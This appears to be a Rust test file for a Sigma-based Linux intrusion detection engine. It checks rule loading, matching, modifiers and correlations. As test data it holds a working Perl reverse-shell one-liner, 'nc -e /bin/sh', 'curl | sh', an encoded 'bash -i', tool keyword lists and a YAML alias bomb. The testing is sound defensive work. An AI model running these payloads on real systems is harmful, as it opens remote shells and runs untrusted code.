//! Engine-level tests: SigmaHQ's Linux rules, the shipped QSC rule set, modifiers and
//! conditions end to end, and correlations.

use std::collections::HashSet;
use std::net::IpAddr;

use qsc_event::*;

use super::*;

const BASE_NS: u64 = 1_800_000_000_000_000_000;

fn sigmahq_dir() -> std::path::PathBuf {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/sigmahq/linux");
    dir.canonicalize().unwrap_or(dir)
}

fn shipped_dir() -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rules")
}

fn process(exe: &str, cmdline: &str) -> ProcessInfo {
    ProcessInfo {
        pid: 4242,
        ppid: 1000,
        uid: 1000,
        user: Some("alice".into()),
        comm: exe
            .rsplit('/')
            .next()
            .unwrap_or(exe)
            .chars()
            .take(15)
            .collect::<String>()
            .into(),
        exe: Some(exe.into()),
        cmdline: cmdline.split(' ').map(str::to_owned).collect(),
        guid: "guid-4242".into(),
        ..Default::default()
    }
}

fn with_parent(mut p: ProcessInfo, parent_exe: &str) -> ProcessInfo {
    p.ancestry.push(Ancestor {
        pid: p.ppid,
        comm: parent_exe.rsplit('/').next().unwrap_or_default().into(),
        exe: Some(parent_exe.into()),
        guid: "guid-parent".into(),
    });
    p
}

fn event(kind: EventKind) -> Event {
    at(0, kind)
}

/// An event on host `web-01`, `secs` seconds after a fixed base time.
fn at(secs: u64, kind: EventKind) -> Event {
    let mut e = Event::new("web-01", Source::Alpha, 1, kind);
    e.time_ns = BASE_NS + secs * 1_000_000_000;
    e
}

fn exec(p: ProcessInfo) -> EventKind {
    let filename = p.exe.as_deref().unwrap_or_default().to_owned();
    EventKind::ProcessExec(ProcessExec {
        argv: p.cmdline.to_vec(),
        folder_world_writable: None,
        process: p,
        filename,
    })
}

/// An exec of `p` whose folder the agent found writable by every user, or not.
fn exec_from_folder(p: ProcessInfo, world_writable: bool) -> EventKind {
    let mut kind = exec(p);
    if let EventKind::ProcessExec(e) = &mut kind {
        e.folder_world_writable = Some(world_writable);
    }
    kind
}

fn connect(p: ProcessInfo, dst: &str, port: u16) -> EventKind {
    EventKind::NetConnect(NetConnection {
        process: p,
        protocol: "tcp".into(),
        src_ip: "10.0.0.5".parse().unwrap(),
        src_port: 40000,
        dst_ip: dst.parse().unwrap(),
        dst_port: port,
    })
}

fn auth(success: bool, user: &str, from: &str) -> EventKind {
    let attempt = AuthAttempt {
        user: user.into(),
        remote_ip: Some(from.parse().unwrap()),
        service: "sshd".into(),
        detail: None,
    };
    if success {
        EventKind::AuthSuccess(attempt)
    } else {
        EventKind::AuthFailure(attempt)
    }
}

fn volume(bytes_out: u64, to: &str) -> EventKind {
    EventKind::NetVolume(NetVolume {
        process: None,
        remote_ip: to.parse().unwrap(),
        bytes_out,
        bytes_in: 0,
        interval_ms: 10_000,
    })
}

fn backup(corrupt: bool) -> EventKind {
    let file = BackupFile {
        backup_set: "db".into(),
        path: "/backup/db.dump".into(),
        expected_sha3_256: Some("aa".into()),
        actual_sha3_256: Some("bb".into()),
    };
    if corrupt {
        EventKind::BackupCorrupt(file)
    } else {
        EventKind::BackupMissing(file)
    }
}

fn cert(kind: fn(Certificate) -> EventKind) -> EventKind {
    kind(Certificate {
        location: "/etc/ssl/site.pem".into(),
        subject: "CN=site".into(),
        issuer: "CN=ca".into(),
        serial: "01".into(),
        not_before: 0,
        not_after: 1,
        days_left: -3,
        reason: None,
    })
}

fn engine_from(yaml: &str) -> (Engine, LoadReport) {
    Engine::load_texts(&[("inline.yml", yaml)]).unwrap()
}

fn hit_ids(hits: &[RuleHit]) -> Vec<&str> {
    hits.iter().map(|h| h.rule_id.as_str()).collect()
}

// ---------------------------------------------------------------- SigmaHQ rules

#[test]
fn every_sigmahq_linux_rule_loads_or_is_skipped_with_a_reason() {
    let dir = sigmahq_dir();
    assert!(dir.is_dir(), "SigmaHQ rules expected at {}", dir.display());
    let (engine, report) = Engine::load_dir(&[&dir]).unwrap();
    println!("{report}");
    assert_eq!(report.files, 210);
    assert_eq!(report.loaded.len() + report.skipped.len(), 210);
    assert_eq!(engine.rule_count(), report.loaded.len());
    // Measured on the 210 SigmaHQ rules in tests/sigmahq: auditd and other log-line services are
    // skipped, as are rules needing fields QSC events do not carry.
    let reasons: std::collections::HashMap<_, _> = report.skip_reasons().into_iter().collect();
    assert_eq!(reasons.get("unsupported_logsource"), Some(&60));
    assert_eq!(reasons.get("field_unavailable"), Some(&11));
    assert_eq!(report.loaded.len(), 139);
    for skip in &report.skipped {
        assert!(!skip.error.to_string().is_empty());
        assert!(
            !matches!(skip.error, RuleError::Yaml(_) | RuleError::Condition { .. }),
            "SigmaHQ rule failed to parse: {}: {}",
            skip.path.display(),
            skip.error
        );
    }
    let auditd = report
        .skipped
        .iter()
        .find(|s| s.path.to_string_lossy().contains("/auditd/"))
        .unwrap();
    assert!(auditd.error.to_string().contains("auditd"));
}

#[test]
fn sigmahq_process_creation_rules_match_hand_built_events() {
    let (mut engine, _) = Engine::load_dir(&[sigmahq_dir()]).unwrap();
    // proc_creation_lnx_crontab_enumeration: Image|endswith /crontab, CommandLine|contains ' -l'
    let hits = engine.evaluate(&event(exec(process("/usr/bin/crontab", "crontab -l"))));
    assert!(hit_ids(&hits).contains(&"403ed92c-b7ec-4edd-9947-5b535ee12d46"));
    let hits = engine.evaluate(&event(exec(process("/usr/bin/crontab", "crontab -e"))));
    assert!(!hit_ids(&hits).contains(&"403ed92c-b7ec-4edd-9947-5b535ee12d46"));
    // proc_creation_lnx_perl_reverse_shell: contains|all lists inside a list of maps.
    let perl = "perl -e use Socket;$i=\"10.0.0.1\";connect(S,sockaddr_in(4242,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");";
    let hits = engine.evaluate(&event(exec(process("/usr/bin/perl", perl))));
    assert!(
        hits.iter().any(|h| h.title.contains("Perl Reverse Shell")),
        "{:?}",
        hit_ids(&hits)
    );
    let hits = engine.evaluate(&event(exec(process("/usr/bin/perl", "perl -e print 1"))));
    assert!(!hits.iter().any(|h| h.title.contains("Perl Reverse Shell")));
    // Case-insensitive by default: the same rule on an upper-cased image path.
    let hits = engine.evaluate(&event(exec(process("/USR/BIN/CRONTAB", "CRONTAB -L"))));
    assert!(hit_ids(&hits).contains(&"403ed92c-b7ec-4edd-9947-5b535ee12d46"));
    // net_connection_lnx_back_connect_shell_dev: bash connecting anywhere but loopback.
    let bash = process("/bin/bash", "bash");
    let hits = engine.evaluate(&event(connect(bash.clone(), "203.0.113.9", 4444)));
    assert!(hit_ids(&hits).contains(&"83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"));
    let hits = engine.evaluate(&event(connect(bash, "127.0.0.1", 4444)));
    assert!(!hit_ids(&hits).contains(&"83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"));
}

// ---------------------------------------------------------------- shipped rules

/// Events that each shipped rule must fire on (directly, or as part of a correlation).
fn shipped_rule_triggers() -> Vec<(&'static str, Vec<Event>)> {
    let nginx_shell = with_parent(process("/bin/sh", "sh -c id"), "/usr/sbin/nginx");
    let mut forks = Vec::new();
    for i in 0..200 {
        forks.push(at(
            i / 40,
            EventKind::ProcessFork(ProcessFork {
                process: process("/usr/bin/python3", "python3 bomb.py"),
                child_pid: 5000 + i as u32,
            }),
        ));
    }
    let bash = process("/bin/bash", "bash -i");
    let failures: Vec<Event> = (0..5)
        .map(|i| at(i, auth(false, "root", "198.51.100.7")))
        .collect();
    let mut login = failures.clone();
    login.push(at(30, auth(true, "root", "198.51.100.7")));
    let mut exfil = login.clone();
    exfil.push(at(60, volume(500_000_000, "203.0.113.50")));
    let mut sabotage = exfil.clone();
    sabotage.push(at(90, backup(true)));
    let file_open = |path: &str, write: bool, exe: &str| {
        event(EventKind::FileOpen(FileOpen {
            process: process(exe, exe),
            path: path.into(),
            flags: if write { 0o101 } else { 0 },
            write,
        }))
    };
    let priv_process = process("/tmp/x", "/tmp/x");
    vec![
        (
            "qsc-shell-from-network-service",
            vec![event(exec(nginx_shell))],
        ),
        (
            "qsc-network-tool-exec",
            vec![event(exec(process("/usr/bin/ncat", "ncat -l 4444")))],
        ),
        (
            "qsc-exec-from-world-writable",
            vec![event(exec_from_folder(process("/dev/shm/.x", ".x"), true))],
        ),
        (
            "qsc-memfd-exec",
            vec![event(exec(process("/memfd:payload (deleted)", "x")))],
        ),
        (
            "qsc-process-segfault",
            vec![event(EventKind::ProcessExit(ProcessExit {
                process: process("/usr/sbin/sshd", "sshd"),
                exit_code: 139,
                signal: Some(11),
            }))],
        ),
        ("qsc-fork-burst", forks),
        (
            "qsc-reverse-shell",
            vec![
                at(0, connect(bash.clone(), "203.0.113.9", 4444)),
                at(1, exec(bash.clone())),
            ],
        ),
        (
            "qsc-bind-shell",
            vec![event(EventKind::NetAccept(NetConnection {
                process: bash.clone(),
                protocol: "tcp".into(),
                src_ip: "203.0.113.9".parse().unwrap(),
                src_port: 50000,
                dst_ip: "10.0.0.5".parse().unwrap(),
                dst_port: 4444,
            }))],
        ),
        (
            "qsc-shell-listen",
            vec![event(EventKind::NetListen(NetListen {
                process: process("/usr/bin/nc", "nc -lvp 4444"),
                protocol: "tcp".into(),
                ip: "0.0.0.0".parse().unwrap(),
                port: 4444,
            }))],
        ),
        ("qsc-large-outbound-transfer", exfil.clone()),
        (
            "qsc-rwx-memory",
            vec![event(EventKind::MemoryRwx(MemoryRwx {
                process: priv_process.clone(),
                origin: RwxSource::Mprotect,
                addr: 0x7000,
                len: 4096,
                prot: 7,
                region: Some("[anon]".into()),
            }))],
        ),
        (
            "qsc-setid-to-root",
            vec![event(EventKind::PrivSetid(PrivSetid {
                process: priv_process.clone(),
                call: "setuid".into(),
                ids: vec![0],
            }))],
        ),
        (
            "qsc-capset-unprivileged",
            vec![event(EventKind::PrivCapset(PrivCapset {
                process: priv_process.clone(),
                target_pid: 4242,
                effective: 1 << 21,
                permitted: 1 << 21,
                inheritable: 0,
            }))],
        ),
        (
            "qsc-ptrace-attach",
            vec![event(EventKind::PrivPtrace(PrivPtrace {
                process: priv_process.clone(),
                request: 16,
                target_pid: 1,
            }))],
        ),
        (
            "qsc-module-load",
            vec![event(EventKind::PrivModuleLoad(PrivModuleLoad {
                process: process("/usr/sbin/insmod", "insmod rk.ko"),
                call: "finit_module".into(),
                fd: Some(3),
            }))],
        ),
        (
            "qsc-bpf-by-non-agent",
            vec![event(EventKind::PrivBpf(PrivBpf {
                process: priv_process.clone(),
                cmd: 5,
            }))],
        ),
        (
            "qsc-memfd-create",
            vec![event(EventKind::PrivMemfdCreate(PrivMemfdCreate {
                process: priv_process.clone(),
                name: "x".into(),
                flags: 1,
            }))],
        ),
        (
            "qsc-shadow-read",
            vec![file_open("/etc/shadow", false, "/usr/bin/python3")],
        ),
        (
            "qsc-setuid-bit-set",
            vec![event(EventKind::FileChmod(FileChmod {
                process: priv_process.clone(),
                path: "/tmp/rootme".into(),
                mode: 0o4755,
            }))],
        ),
        (
            "qsc-chown-root-in-tmp",
            vec![event(EventKind::FileChown(FileChown {
                process: priv_process.clone(),
                path: "/tmp/rootme".into(),
                uid: 0,
                gid: -1,
            }))],
        ),
        (
            "qsc-cron-persistence",
            vec![file_open("/etc/cron.d/evil", true, "/bin/cp")],
        ),
        (
            "qsc-authorized-keys-write",
            vec![file_open("/root/.ssh/authorized_keys", true, "/bin/bash")],
        ),
        (
            "qsc-log-deleted",
            vec![event(EventKind::FileUnlink(FileUnlink {
                process: priv_process.clone(),
                path: "/var/log/auth.log".into(),
            }))],
        ),
        (
            "qsc-rename-into-system-bin",
            vec![event(EventKind::FileRename(FileRename {
                process: priv_process,
                path: "/tmp/ls".into(),
                new_path: "/usr/bin/ls".into(),
            }))],
        ),
        (
            "qsc-config-tampered",
            vec![event(EventKind::IntegrityFileChanged(
                IntegrityFileChanged {
                    path: "/etc/ssh/sshd_config".into(),
                    changes: vec!["content".into(), "mtime".into()],
                    old_hash: Some("aa".into()),
                    new_hash: Some("bb".into()),
                },
            ))],
        ),
        (
            "qsc-baseline-tampered",
            vec![event(EventKind::IntegrityBaselineTampered(
                IntegrityBaselineTampered {
                    store: "/var/lib/qsc/baseline".into(),
                    reason: "signature mismatch".into(),
                },
            ))],
        ),
        ("qsc-backup-damaged", vec![event(backup(false))]),
        (
            "qsc-backup-unexpected",
            vec![event(EventKind::BackupUnexpected(BackupFile {
                backup_set: "db".into(),
                path: "/backup/README_RANSOM.txt".into(),
                expected_sha3_256: None,
                actual_sha3_256: None,
            }))],
        ),
        (
            "qsc-cert-expiring",
            vec![event(cert(EventKind::CertExpiring))],
        ),
        (
            "qsc-cert-expired",
            vec![event(cert(EventKind::CertNotYetValid))],
        ),
        (
            "qsc-cert-untrusted",
            vec![event(cert(EventKind::CertRevoked))],
        ),
        (
            "qsc-heal-done",
            vec![event(EventKind::HealDone(Heal {
                path: "/etc/passwd".into(),
                hash: Some("aa".into()),
                error: None,
            }))],
        ),
        (
            "qsc-heal-failed",
            vec![event(EventKind::HealFailed(Heal {
                path: "/etc/passwd".into(),
                hash: None,
                error: Some("read-only file system".into()),
            }))],
        ),
        ("qsc-auth-failures-burst", failures),
        ("qsc-login-after-failures", login),
        ("qsc-intrusion-exfiltration", exfil),
        ("qsc-intrusion-exfiltration-sabotage", sabotage),
        (
            "qsc-event-loss",
            vec![event(EventKind::EventLoss(EventLoss {
                stage: "kernel_ringbuf".into(),
                record: Some("exec".into()),
                lost: 12,
                total: 12,
            }))],
        ),
        (
            "qsc-agent-tamper",
            vec![event(EventKind::TamperAttempt(TamperAttempt {
                action: "signal".into(),
                process: None,
                signal: Some(9),
                detail: None,
            }))],
        ),
        (
            "qsc-agent-restarted",
            vec![event(EventKind::Heartbeat(Heartbeat {
                version: "0.1.0".into(),
                uptime_s: 5,
                active_hooks: vec![],
            }))],
        ),
        (
            "qsc-metrics-failed-logins",
            vec![event(EventKind::HostMetrics(HostMetrics {
                failed_logins: 80,
                ..Default::default()
            }))],
        ),
        (
            "qsc-enforce-connect-blocked",
            vec![event(EventKind::Enforcement(Enforcement {
                process: bash.clone(),
                action: EnforcementAction::ConnectBlocked,
                target: "203.0.113.9:443".into(),
            }))],
        ),
        (
            "qsc-enforce-exec-killed",
            vec![event(EventKind::Enforcement(Enforcement {
                process: bash.clone(),
                action: EnforcementAction::ExecKilled,
                target: "/tmp/miner".into(),
            }))],
        ),
        (
            "qsc-enforce-revoked-uid-killed",
            vec![event(EventKind::Enforcement(Enforcement {
                process: bash.clone(),
                action: EnforcementAction::RevokedUidKilled,
                target: "uid 1001: switch to it".into(),
            }))],
        ),
    ]
}

#[test]
fn every_shipped_rule_loads_is_attack_tagged_and_fires() {
    let (_, report) = Engine::load_dir(&[shipped_dir()]).unwrap();
    assert!(report.skipped.is_empty(), "{report}");
    let triggers = shipped_rule_triggers();
    let mut seen: HashSet<String> = HashSet::new();
    for (rule_id, events) in &triggers {
        let (mut engine, _) = Engine::load_dir(&[shipped_dir()]).unwrap();
        let hits: Vec<RuleHit> = events.iter().flat_map(|e| engine.evaluate(e)).collect();
        let hit = hits
            .iter()
            .find(|h| h.rule_id == *rule_id)
            .unwrap_or_else(|| panic!("{rule_id} did not fire; got {:?}", hit_ids(&hits)));
        assert!(
            hit.attack_techniques().next().is_some(),
            "{rule_id} has no ATT&CK technique tag"
        );
        for h in &hits {
            seen.insert(h.rule_id.clone());
            seen.extend(h.events.iter().map(|e| e.rule_id.clone()));
        }
    }
    for loaded in &report.loaded {
        assert!(
            seen.contains(&loaded.id),
            "{} has no triggering test",
            loaded.id
        );
    }
}

#[test]
fn attack_technique_tags_are_told_apart_from_tactics() {
    let tags: Vec<String> = [
        "attack.execution",
        "attack.t1059.004",
        "attack.ta0002",
        "cve.2021",
    ]
    .map(String::from)
    .to_vec();
    let techniques: Vec<&str> = rule::attack_techniques(&tags).collect();
    assert_eq!(techniques, vec!["attack.t1059.004"]);
}

#[test]
fn shipped_rules_stay_quiet_on_benign_activity() {
    let (mut engine, _) = Engine::load_dir(&[shipped_dir()]).unwrap();
    let benign = [
        event(exec(with_parent(
            process("/bin/bash", "bash"),
            "/usr/sbin/sshd",
        ))),
        event(exec(process("/usr/bin/ls", "ls -la"))),
        // A program built in a checkout under /tmp: the folder is its owner's alone.
        event(exec_from_folder(
            process("/tmp/build/target/debug/cortex", "cortex serve"),
            false,
        )),
        event(connect(process("/usr/bin/curl", "curl"), "127.0.0.1", 80)),
        event(EventKind::FileOpen(FileOpen {
            process: process("/usr/sbin/sshd", "sshd"),
            path: "/etc/shadow".into(),
            flags: 0,
            write: false,
        })),
        event(volume(500_000_000, "10.1.2.3")),
        event(volume(1_000, "203.0.113.50")),
    ];
    for e in &benign {
        let hits = engine.evaluate(e);
        assert!(
            hits.is_empty(),
            "{:?} fired on {}",
            hit_ids(&hits),
            e.kind.name()
        );
    }
    // Successful logins are reported, as informational evidence only, because the
    // login-after-failures correlation sets `generate: true`.
    let hits = engine.evaluate(&event(auth(true, "alice", "198.51.100.8")));
    assert_eq!(hit_ids(&hits), vec!["qsc-auth-success"]);
    assert_eq!(hits[0].level, Level::Informational);
}

// ---------------------------------------------------------------- modifiers and conditions

fn rule(detection: &str) -> String {
    format!(
        "title: t\nid: r\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n{detection}\nlevel: high\ntags: [attack.t1059]\n"
    )
}

/// Whether the one-rule engine built from `detection` fires on an exec of `exe cmdline`.
fn fires(detection: &str, exe: &str, cmdline: &str) -> bool {
    let (mut engine, report) = engine_from(&rule(detection));
    assert!(report.skipped.is_empty(), "{report}");
    !engine
        .evaluate(&event(exec(process(exe, cmdline))))
        .is_empty()
}

#[test]
fn string_modifiers_and_wildcards() {
    let contains = "  s:\n    CommandLine|contains: 'ENCODED'\n  condition: s";
    assert!(fires(contains, "/bin/x", "x --encoded y"));
    assert!(!fires(contains, "/bin/x", "x --encode y"));
    let cased = "  s:\n    CommandLine|contains|cased: 'ENCODED'\n  condition: s";
    assert!(!fires(cased, "/bin/x", "x --encoded y"));
    assert!(fires(cased, "/bin/x", "x --ENCODED y"));
    let starts = "  s:\n    Image|startswith: '/TMP/'\n  condition: s";
    assert!(fires(starts, "/tmp/a", "a"));
    assert!(!fires(starts, "/var/tmp/a", "a"));
    let all = "  s:\n    CommandLine|contains|all: ['-a', '-b']\n  condition: s";
    assert!(fires(all, "/bin/x", "x -b -a"));
    assert!(!fires(all, "/bin/x", "x -a"));
    let glob = "  s:\n    Image: '/usr/*/py?hon*'\n  condition: s";
    assert!(fires(glob, "/usr/local/bin/python3", "python3"));
    assert!(!fires(glob, "/usr/bin/pyhon", "x"));
    let escaped = "  s:\n    CommandLine: 'echo \\*'\n  condition: s";
    assert!(fires(escaped, "/bin/echo", "echo *"));
    assert!(!fires(escaped, "/bin/echo", "echo x"));
    let windash = "  s:\n    CommandLine|windash|contains: ' -c '\n  condition: s";
    assert!(fires(windash, "/bin/x", "x /c y"));
    let re = "  s:\n    CommandLine|re: 'nc\\s+-e'\n  condition: s";
    assert!(fires(re, "/bin/nc", "nc -e /bin/sh"));
    assert!(!fires(re, "/bin/nc", "NC -e /bin/sh"));
    let re_i = "  s:\n    CommandLine|re|i: 'nc\\s+-e'\n  condition: s";
    assert!(fires(re_i, "/bin/nc", "NC -e /bin/sh"));
    let b64 = "  s:\n    CommandLine|base64offset|contains: '/bin/bash'\n  condition: s";
    assert!(fires(
        b64,
        "/bin/x",
        "echo IC9iaW4vYmFzaCAtaQ== | base64 -d"
    ));
    assert!(!fires(b64, "/bin/x", "echo aGVsbG8= | base64 -d"));
    let b64plain = "  s:\n    CommandLine|base64|contains: 'id'\n  condition: s";
    assert!(fires(b64plain, "/bin/x", "x aWQ="));
}

#[test]
fn numeric_existence_cidr_and_fieldref_modifiers() {
    let gt = "  s:\n    ProcessId|gt: 4000\n    ProcessId|lte: 4242\n  condition: s";
    assert!(fires(gt, "/bin/x", "x"));
    let lt = "  s:\n    ProcessId|lt: 4242\n  condition: s";
    assert!(!fires(lt, "/bin/x", "x"));
    let exists = "  s:\n    User|exists: true\n  condition: s";
    assert!(fires(exists, "/bin/x", "x"));
    let missing = "  s:\n    ContainerId|exists: true\n  condition: s";
    assert!(!fires(missing, "/bin/x", "x"));
    let null = "  s:\n    ContainerId: null\n  condition: s";
    assert!(fires(null, "/bin/x", "x"));
    let neq = "  s:\n    Comm|neq: 'x'\n  condition: s";
    assert!(!fires(neq, "/bin/x", "x"));
    assert!(fires(neq, "/bin/y", "y"));
    let fieldref = "  s:\n    Comm|fieldref: CommandLine\n  condition: s";
    assert!(fires(fieldref, "/bin/x", "x"));
    assert!(!fires(fieldref, "/bin/x", "x -v"));
    let number_as_text = "  s:\n    ProcessId: '4242'\n  condition: s";
    assert!(fires(number_as_text, "/bin/x", "x"));

    let net_rule = "title: t\nid: n\nlogsource: {product: linux, category: network_connection}\ndetection:\n  s:\n    DestinationIp|cidr: ['192.0.2.0/24', '2001:db8::/32']\n    DestinationPort: 4444\n  condition: s\n";
    let (mut engine, report) = engine_from(net_rule);
    assert!(report.skipped.is_empty(), "{report}");
    let p = process("/bin/x", "x");
    assert_eq!(
        engine
            .evaluate(&event(connect(p.clone(), "192.0.2.77", 4444)))
            .len(),
        1
    );
    assert_eq!(
        engine
            .evaluate(&event(connect(p.clone(), "2001:db8::1", 4444)))
            .len(),
        1
    );
    assert!(
        engine
            .evaluate(&event(connect(p.clone(), "192.0.3.1", 4444)))
            .is_empty()
    );
    assert!(
        engine
            .evaluate(&event(connect(p, "192.0.2.77", 80)))
            .is_empty()
    );
}

#[test]
fn selections_conditions_and_keywords() {
    let list_of_maps =
        "  s:\n    - Image|endswith: '/a'\n    - CommandLine|contains: 'zz'\n  condition: s";
    assert!(fires(list_of_maps, "/bin/a", "a"));
    assert!(fires(list_of_maps, "/bin/b", "b zz"));
    assert!(!fires(list_of_maps, "/bin/b", "b"));
    let map_and = "  s:\n    Image|endswith: '/a'\n    CommandLine|contains: 'zz'\n  condition: s";
    assert!(!fires(map_and, "/bin/a", "a"));
    let keywords = "  keywords:\n    - 'mimikatz'\n    - 'lazagne'\n  condition: keywords";
    assert!(fires(keywords, "/tmp/LaZagne", "x"));
    assert!(!fires(keywords, "/bin/x", "x"));
    let keywords_all =
        "  keywords:\n    '|all':\n      - 'curl'\n      - '| sh'\n  condition: keywords";
    assert!(fires(keywords_all, "/bin/sh", "curl http://x | sh"));
    assert!(!fires(keywords_all, "/bin/sh", "curl http://x"));
    let complex = "  sel_a:\n    Image|endswith: '/a'\n  sel_b:\n    Image|endswith: '/b'\n  filter_x:\n    CommandLine|contains: 'safe'\n  condition: 1 of sel_* and not 1 of filter_*";
    assert!(fires(complex, "/bin/b", "b"));
    assert!(!fires(complex, "/bin/b", "b safe"));
    assert!(!fires(complex, "/bin/c", "c"));
    let them = "  sel_a:\n    Image|endswith: '/a'\n  sel_b:\n    CommandLine|contains: 'q'\n  condition: all of them";
    assert!(fires(them, "/bin/a", "a q"));
    assert!(!fires(them, "/bin/a", "a"));
    let one_of_them = "  sel_a:\n    Image|endswith: '/a'\n  sel_b:\n    CommandLine|contains: 'q'\n  condition: 1 of them";
    assert!(fires(one_of_them, "/bin/z", "z q"));
    let condition_list = "  a:\n    Image|endswith: '/a'\n  b:\n    Image|endswith: '/b'\n  condition:\n    - a\n    - b";
    assert!(fires(condition_list, "/bin/b", "b"));
}

#[test]
fn bad_rules_are_skipped_with_named_errors() {
    let cases = [
        (
            "  s:\n    Image|frobnicate: x\n  condition: s",
            "unknown_modifier",
        ),
        (
            "  s:\n    Image|wide|base64: x\n  condition: s",
            "unsupported_modifier",
        ),
        (
            "  s:\n    Image|expand: '%servers%'\n  condition: s",
            "unsupported_modifier",
        ),
        ("  s:\n    a0: x\n  condition: s", "unknown_field"),
        (
            "  s:\n    CurrentDirectory: /tmp\n  condition: s",
            "field_unavailable",
        ),
        (
            "  s:\n    Image|re: '(?<=x)y'\n  condition: s",
            "invalid_value",
        ),
        (
            "  s:\n    ProcessId|gt: many\n  condition: s",
            "invalid_value",
        ),
        (
            "  s:\n    DestinationIp|cidr: 10.0.0.0/99\n  condition: s",
            "invalid_value",
        ),
        ("  s:\n    '|exists': true\n  condition: s", "invalid_value"),
        (
            "  s:\n    Image: x\n  condition: s and missing",
            "condition",
        ),
        (
            "  s:\n    Image: x\n  condition: s | count() > 5",
            "condition",
        ),
        ("  s:\n    Image: x", "missing_key"),
    ];
    for (detection, label) in cases {
        let (engine, report) = engine_from(&rule(detection));
        assert_eq!(engine.rule_count(), 0, "{detection}");
        assert_eq!(report.skipped.len(), 1, "{detection}");
        let error = &report.skipped[0].error;
        assert_eq!(error.label(), label, "{detection}: {error}");
    }
    let hostile = [
        "",
        "- just\n- a list",
        "title: [unclosed",
        "title: t\nlogsource: {product: windows}\ndetection: {s: {Image: x}, condition: s}",
        "title: t\nlogsource: {product: linux, service: auditd}\ndetection: {s: {a0: x}, condition: s}",
        "title: t\nlogsource: {category: nonsense}\ndetection: {s: {Image: x}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {Image: *anchor}, condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: [], condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: [{Image: x}, y], condition: s}",
        "title: t\nlogsource: {}\ndetection: {s: {Image: {nested: map}}, condition: s}",
        "title: t\nlogsource: {}\nlevel: apocalyptic\ndetection: {s: {Image: x}, condition: s}",
        "title: t\nfilter: {rules: [x]}",
        "title: t",
    ];
    for text in hostile {
        let (engine, report) = engine_from(text);
        assert_eq!(engine.rule_count(), 0, "{text}");
        assert!(text.is_empty() || !report.skipped.is_empty(), "{text}");
    }
}

#[test]
fn deep_nesting_and_alias_bombs_are_rejected_before_expanding() {
    let mut laughs = String::from("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for i in 1..10 {
        let refs = vec![format!("*a{}", i - 1); 10].join(", ");
        laughs.push_str(&format!("a{i}: &a{i} [{refs}]\n"));
    }
    for text in [
        laughs,
        format!("{}x", "- ".repeat(200_000)),
        format!("{}x{}", "[".repeat(100_000), "]".repeat(100_000)),
        format!(
            "title: t\nlogsource: {{}}\ndetection:\n  s:\n    Image: {}x\n  condition: s\n",
            "- ".repeat(200_000)
        ),
    ] {
        let (engine, report) = engine_from(&text);
        assert_eq!(engine.rule_count(), 0);
        assert_eq!(report.skipped.len(), 1);
    }
}

#[test]
fn folders_are_walked_without_following_symlink_loops() {
    let dir = tempfile::tempdir().unwrap();
    let nested = dir.path().join("a/b");
    std::fs::create_dir_all(&nested).unwrap();
    std::fs::write(
        nested.join("r.yml"),
        rule("  s:\n    Image: x\n  condition: s"),
    )
    .unwrap();
    std::fs::write(nested.join("notes.txt"), "not a rule").unwrap();
    std::fs::write(dir.path().join("broken.yaml"), "title: [").unwrap();
    std::os::unix::fs::symlink(dir.path(), nested.join("loop")).unwrap();
    let missing = dir.path().join("missing.yml");
    let (engine, report) = Engine::load_dir(&[dir.path(), missing.as_path()]).unwrap();
    assert_eq!(engine.rule_count(), 1);
    assert_eq!(report.files, 3);
    let labels: Vec<&str> = report.skipped.iter().map(|s| s.error.label()).collect();
    assert_eq!(labels, vec!["yaml", "unreadable"]);
}

#[test]
fn duplicate_ids_keep_the_first_rule() {
    let one = rule("  s:\n    Image: x\n  condition: s");
    let (engine, report) = Engine::load_texts(&[("a.yml", &one), ("b.yml", &one)]).unwrap();
    assert_eq!(engine.rule_count(), 1);
    assert!(matches!(report.skipped[0].error, RuleError::DuplicateId(_)));
}

#[test]
fn events_only_meet_rules_of_their_category() {
    let file_rule = "title: t\nid: f\nlogsource: {product: linux, category: file_event}\ndetection:\n  s:\n    Image|endswith: '/x'\n  condition: s\n";
    let any_rule = "title: t\nid: any\nlogsource: {product: linux}\ndetection:\n  s:\n    Image|endswith: '/x'\n  condition: s\n";
    let (mut engine, _) = Engine::load_texts(&[("f.yml", file_rule), ("a.yml", any_rule)]).unwrap();
    let hits = engine.evaluate(&event(exec(process("/bin/x", "x"))));
    assert_eq!(hit_ids(&hits), vec!["any"]);
}

// ---------------------------------------------------------------- correlations

const BASE_RULES: &str = r#"
title: failure
id: base-failure
name: failure
logsource: {product: linux, category: authentication}
detection:
    s:
        QscKind: auth_failure
    condition: s
---
title: success
id: base-success
name: success
logsource: {product: linux, category: authentication}
detection:
    s:
        QscKind: auth_success
    condition: s
"#;

fn correlation_engine(correlation: &str) -> Engine {
    let (engine, report) =
        Engine::load_texts(&[("base.yml", BASE_RULES), ("corr.yml", correlation)]).unwrap();
    assert!(report.skipped.is_empty(), "{report}");
    engine
}

fn failure_from(secs: u64, ip: &str, user: &str) -> Event {
    at(secs, auth(false, user, ip))
}

#[test]
fn event_count_counts_within_the_timespan_per_group() {
    let mut engine = correlation_engine(
        "title: burst\nid: burst\ncorrelation:\n  type: event_count\n  rules: [failure]\n  group-by: [SourceIp]\n  timespan: 1m\n  condition:\n    gte: 3\nlevel: high\ntags: [attack.t1110]\n",
    );
    // Referenced without `generate`, the base rule reports nothing itself.
    assert!(
        engine
            .evaluate(&failure_from(0, "192.0.2.1", "a"))
            .is_empty()
    );
    // Another address is another group.
    assert!(
        engine
            .evaluate(&failure_from(1, "192.0.2.2", "a"))
            .is_empty()
    );
    assert!(
        engine
            .evaluate(&failure_from(2, "192.0.2.1", "a"))
            .is_empty()
    );
    let hits = engine.evaluate(&failure_from(3, "192.0.2.1", "a"));
    assert_eq!(hit_ids(&hits), vec!["burst"]);
    assert_eq!(
        hits[0].kind,
        HitKind::Correlation(CorrelationType::EventCount)
    );
    assert_eq!(hits[0].events.len(), 3);
    assert_eq!(
        hits[0].group,
        vec![("SourceIp".to_owned(), "192.0.2.1".to_owned())]
